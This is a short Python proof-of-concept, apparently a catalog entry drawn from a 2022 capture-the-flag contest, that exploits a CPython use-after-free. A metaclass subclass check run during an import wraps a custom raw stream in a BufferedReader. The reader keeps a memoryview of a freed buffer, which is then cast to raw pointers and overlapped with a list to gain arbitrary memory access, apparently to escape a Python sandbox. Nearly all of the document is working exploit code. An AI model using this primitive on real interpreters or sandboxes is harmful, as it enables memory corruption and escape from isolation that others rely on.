# technique: inside an import a C callable puts a BufferedReader over our raw object, which keeps a view of the freed buffer
# goal: code
# source: pwn.win 2022; own analysis: C callables inside an import
# mended: later releases
import abc
import collections.abc
import functools
import io


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        global view
        view = buffer

    def readable(self):
        return True


kept = []


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(kept.append, map(io.BufferedReader, [Raw()]))))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
kept.pop().read(1)
view = view.cast('P')
box = [None] * len(view)
if view[0] == id(None):
    print('ESCAPED a view of a list', flush=True)
